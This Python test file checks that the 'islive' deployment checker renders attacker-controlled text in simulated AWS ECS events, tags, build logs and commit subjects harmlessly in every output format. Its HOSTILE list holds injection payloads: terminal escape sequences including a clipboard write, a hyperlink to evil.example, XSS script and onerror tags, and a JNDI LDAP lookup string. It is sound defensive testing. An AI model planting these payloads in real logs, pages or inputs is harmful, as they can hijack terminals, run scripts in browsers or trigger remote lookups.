"""Whatever the outside writes is data: it is shown harmless, in every format, and changes no verdict."""

import json
import re
from pathlib import Path
from typing import Any

import pytest

from islive.render import formats
from tests.properties.scenes import document, islive, write_world

pytestmark = pytest.mark.slow

HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[bold red]markup[/] {0} %s ${jndi:ldap://evil}",
    "\u202eevil\u202c \u200bzero\u200d \u2066bidi\u2069 \x9b31m \x85 \x7f",
    'quote" and \\ and \r\n### heading | table |',
    "x" * 100_000,
)
OURS = re.compile(r"\x1b\[[0-9;]*m")
UNSAFE = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


def poisoned(text: str) -> dict[str, Any]:
    """The incident, with this text in events, stopped reasons, log lines, tags and build messages."""
    world = document("ava-olo")
    cluster = world["aws"]["ecs"]["clusters"]["ava-olo-production"]
    service = cluster["services"]["agricultural-core"]
    service["events"]["2025-07-21T08:49:59Z"] = f"(service agricultural-core) {text}"
    service["tags"] = {"owner": text, f"tag {text[:40]}": "x"}
    for task in cluster["tasks"].values():
        if "stoppedReason" in task:
            task["stoppedReason"] = f"{text} {task['stoppedReason']}"
    for project in world["aws"]["codebuild"]["projects"].values():
        for build in project["builds"].values():
            build["log"] = f"{build.get('log', '')}{text}\n"
    for commit in world["git"]["commits"].values():
        commit["subject"] = text
    return world


@pytest.mark.parametrize("form", formats())
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_shown_harmless(text: str, form: str, tmp_path: Path) -> None:
    """No control character but the line break and our own colours gets out, and the answer stays the answer."""
    file = write_world(poisoned(text), tmp_path / "world.yaml")
    ran = islive("agricultural-core", "v3.3.2", "--scenario", str(file), "--format", form, "-v")
    # In SARIF findings do not change the exit code.
    assert ran.code == (0 if form == "sarif" else 10)
    assert UNSAFE.search(OURS.sub("", ran.out)) is None
    if form == "json":
        assert json.loads(ran.out)["stopped_at"] == "build"


def test_the_text_really_gets_through(tmp_path: Path) -> None:
    """What is made harmless is still told: the marker beside the escape is in the report."""
    file = write_world(poisoned("\x1b[2Jmarker-4711"), tmp_path / "world.yaml")
    assert "marker-4711" in islive("agricultural-core", "v3.3.2", "--scenario", str(file), "-v").out
